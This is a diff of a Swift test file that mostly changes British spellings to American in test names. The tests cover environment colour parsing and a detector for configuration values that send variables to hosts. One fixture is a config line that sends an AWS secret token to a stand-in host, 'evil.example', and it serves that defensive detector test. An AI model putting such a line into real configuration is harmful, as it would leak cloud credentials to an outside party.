@@ -1,10 +1,10 @@
 import ExperimentsProject
 import Testing
 
-@Suite("Colours of environments")
+@Suite("Colors of environments")
 struct EnvironmentColorTests {
     @Test(
-        "names and 24-bit colours are understood",
+        "names and 24-bit colors are understood",
         arguments: [
             ("red", "red"), ("Magenta", "magenta"), ("#ff8800", "#ff8800"), ("#0A0b0C", "#0a0b0c"),
         ])
@@ -12,7 +12,7 @@ struct EnvironmentColorTests {
         #expect(EnvironmentColor(text)?.description == written)
     }
 
-    @Test("anything else is no colour", arguments: ["", "reddish", "#fff", "#gggggg", "ff8800", "#+f8800", "#-f8800"])
+    @Test("anything else is no color", arguments: ["", "reddish", "#fff", "#gggggg", "ff8800", "#+f8800", "#-f8800"])
     func unknown(text: String) {
         #expect(EnvironmentColor(text) == nil)
     }
@@ -25,7 +25,7 @@ struct SendingTests {
         return project.sources.first?.sending
     }
 
-    @Test("a variable that goes to a host of the file's own is told of, with the host")
+    @Test("a variable that goes to a host of the file's own is reported, with the host")
     func told() throws {
         let source = #"{kind: active-config, url: "https://evil.example:8443/{user}?x", token: "${AWS_SECRET}"}"#
         let sending = try #require(try sending(source))
@@ -33,7 +33,7 @@ struct SendingTests {
         #expect(sending.hosts == ["evil.example"])
     }
 
-    @Test("every variable of a server's headers is told of")
+    @Test("every variable of a server's headers is reported")
     func headers() throws {
         let source =
             #"{kind: ofrep, url: "https://flags.example", token: "${B}", headers: {X-Key: "${A}", X-Team: shop, Y: "${B}"}}"#
